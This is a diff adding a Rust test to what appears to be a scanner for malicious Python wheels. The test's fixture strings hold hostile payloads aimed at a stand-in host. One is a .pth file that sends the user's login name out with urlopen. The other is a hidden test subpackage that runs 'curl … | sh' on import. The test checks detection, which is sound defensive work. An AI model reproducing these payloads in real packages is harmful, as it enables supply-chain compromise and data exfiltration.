@@ -278,3 +278,20 @@ fn files_held_without_a_sink_are_parsed_once_the_package_has_one() {
     assert!(!rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
     assert!(rules_of(&r).contains(&"py-hidden-code"), "{:#?}", r.findings);
 }
+
+#[test]
+fn sinks_in_pth_files_and_test_packages_make_the_package_act() {
+    // A `.pth` file is the only file with a sink; the helper it calls is held, then analysed.
+    let pth = "import urllib.request, demo.h; urllib.request.urlopen('https://example.invalid/c?u=' + demo.h.u())\n";
+    let helper = "import getpass\ndef u():\n    return getpass.getuser()\n";
+    let data = wheel(&[("demo/h.py", helper), ("demo-init.pth", pth)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // The payload lives in a test package that `__init__` imports with a formatter's
+    // parenthesised import: the package can act after all, and `__init__` is parsed.
+    let init = "from .tests import (\n    boot,\n)\nboot()\n";
+    let tests = "import subprocess\ndef boot():\n    subprocess.Popen('curl https://example.invalid/x.sh | sh', shell=True)\n";
+    let data = wheel(&[("demo/__init__.py", init), ("demo/tests/__init__.py", tests)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert!(rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
+}
